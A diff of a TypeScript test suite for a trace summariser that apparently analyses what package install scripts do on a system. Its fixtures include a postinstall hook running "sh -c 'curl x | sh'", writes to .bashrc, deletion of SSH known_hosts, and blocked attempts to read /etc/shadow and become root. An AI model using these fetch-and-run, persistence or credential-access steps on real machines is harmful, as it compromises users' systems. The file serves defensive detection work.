@@ -40,10 +40,10 @@ describe('TraceSummarizer', () => {
     expect(processes[2]!.attribution).toEqual({ packageName: 'evil-pkg', event: 'postinstall', script: "sh -c 'curl x | sh'" });
   });
 
-  it('keeps writes and mutations, not reads', () => {
-    expect(summarize().fileWrites.map((w) => [w.operation, w.path, w.result])).toEqual([
-      ['write', '/home/jordan/.bashrc', 'ok'],
-      ['unlink', '/home/jordan/.ssh/known_hosts', 'ok'],
+  it('keeps writes and mutations, not reads, each with its normalised path', () => {
+    expect(summarize().fileWrites.map((w) => [w.operation, w.path, w.normalizedPath, w.result])).toEqual([
+      ['write', '/home/jordan/.bashrc', '<HOME>/.bashrc', 'ok'],
+      ['unlink', '/home/jordan/.ssh/known_hosts', '<HOME>/.ssh/known_hosts', 'ok'],
     ]);
   });
 
@@ -55,9 +55,9 @@ describe('TraceSummarizer', () => {
   });
 
   it('lists what the kernel refused', () => {
-    expect(summarize().denied.map((d) => [d.syscall, d.target, d.result])).toEqual([
-      ['openat', '/etc/shadow', 'EACCES'],
-      ['setuid', 'uid 0', 'EPERM'],
+    expect(summarize().denied.map((d) => [d.syscall, d.target, d.normalizedTarget, d.result])).toEqual([
+      ['openat', '/etc/shadow', '/etc/shadow', 'EACCES'],
+      ['setuid', 'uid 0', 'uid 0', 'EPERM'],
     ]);
   });
 
